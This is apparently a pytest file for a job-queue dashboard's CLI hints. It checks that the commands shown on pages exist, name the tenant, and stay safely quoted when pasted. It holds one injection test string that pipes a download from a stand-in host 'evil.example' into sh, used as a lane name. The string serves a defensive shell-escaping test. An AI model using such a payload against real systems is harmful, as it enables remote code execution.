"""Commands that pages show: they exist, name the tenant, and are safe to paste."""

from __future__ import annotations

import re
import shlex
from html import unescape
from urllib.parse import quote

import pytest
from click.testing import CliRunner

from freehold.cli import main
from freehold.model.job import NewJob
from freehold.model.timing import Every
from freehold.operator import Operator
from tests.dashboard.browser_client import BrowserClient, Visitor

pytestmark = pytest.mark.requirement("N14")
EVIL = "x; curl evil.example|sh $(id) 'y"
LISTS = ["/", "/jobs", "/failures", "/queues", "/lanes", "/limits", "/tasks", "/workers"]
LISTS += ["/schedules", "/bulk", "/audit", "/batches?kind=gather", "/workflows?state=open"]


def pages(operator: Operator) -> list[str]:
    operator.put_schedule("nightly", Every(seconds=3600.0), NewJob(task="greet"), by="ann")
    operator.pause_lane(EVIL, "ann")
    target = quote(EVIL, safe="")
    single = ["/queues/mail", "/tasks/greet", f"/lanes/{target}", "/schedules/nightly"]
    filters = [f"/jobs?state=failed&q=task:{target}", "/actions?verb=cancel&q=queue:mail"]
    return [*LISTS, *single, *filters]


def shown(visitor: Visitor, path: str) -> list[str]:
    """Commands on a page, as they are copied."""
    page = visitor.page(path)
    found = re.findall(r"<(?:code|pre)>(freehold [^<]*)<|data-copy=\"(freehold [^\"]*)\"", page)
    assert found, path
    return [unescape(text or copied) for text, copied in found]


@pytest.mark.parametrize("tenant", [None, "ours"])
def test_every_command_exists_and_names_the_tenant(
    sqlite_board: BrowserClient, tenant: str | None
) -> None:
    app, prefix = sqlite_board.app, ""
    if tenant is not None:
        app.tenants.create(tenant)
        app, prefix = app.tenant(tenant), f"/t/{tenant}"
    visitor = sqlite_board.visitor()
    for path in pages(app.operator):
        for command in shown(visitor, prefix + path):
            words = shlex.split(command)
            result = CliRunner().invoke(main, [*words[1:], "--help"])
            assert result.exit_code == 0, (command, result.output)
            if words[1] != "up":
                assert (words[-2:] == ["--tenant", "ours"]) is (tenant is not None), command


def test_a_command_is_safe_to_paste(sqlite_board: BrowserClient) -> None:
    sqlite_board.app.operator.pause_lane(EVIL, "ann")
    for command in shown(sqlite_board.visitor(), f"/lanes/{quote(EVIL, safe='')}"):
        assert EVIL in shlex.split(command)
